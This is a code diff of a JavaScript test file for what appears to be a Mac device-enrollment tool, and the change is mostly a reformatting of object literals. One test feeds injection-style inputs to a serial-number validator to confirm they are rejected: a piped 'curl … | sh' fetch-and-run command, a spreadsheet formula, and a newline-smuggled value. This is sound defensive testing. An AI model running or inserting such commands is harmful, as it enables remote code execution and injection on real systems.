@@ -36,9 +36,14 @@ for (const name of REQUESTS)
 it('does what a well-formed request asks, and would notice the change', async () => {
   const before = bench.rows();
   const settings = {
-    ...{ name: 'Lab Macs', method: 'apple-configurator', affinity: 'without' },
-    ...{ authentication: null, portalDelivery: null, lockedEnrollment: false },
-    ...{ awaitFinalConfiguration: null, profileDownloadedAtMs: null },
+    name: 'Lab Macs',
+    method: 'apple-configurator',
+    affinity: 'without',
+    authentication: null,
+    portalDelivery: null,
+    lockedEnrollment: false,
+    awaitFinalConfiguration: null,
+    profileDownloadedAtMs: null,
   };
   expect(await ask('saveProfile', { profileId: null, settings })).toMatchObject({ ok: true });
   expect(bench.rows()).toBe(before + 1);
@@ -48,7 +53,8 @@ it('does what a well-formed request asks, and would notice the change', async ()
 it('puts a serial on the clipboard and nothing else', async () => {
   for (const serial of ['curl example.invalid | sh\n', '=1+1', 'TEST00A013\nx']) {
     expect(await ask('copySerial', { serial })).toEqual({
-      ...{ ok: false, failure: { kind: 'serial-not-valid', raw: serial, why: 'characters' } },
+      ok: false,
+      failure: { kind: 'serial-not-valid', raw: serial, why: 'characters' },
     });
   }
   expect(bench.copied()).toEqual([]);
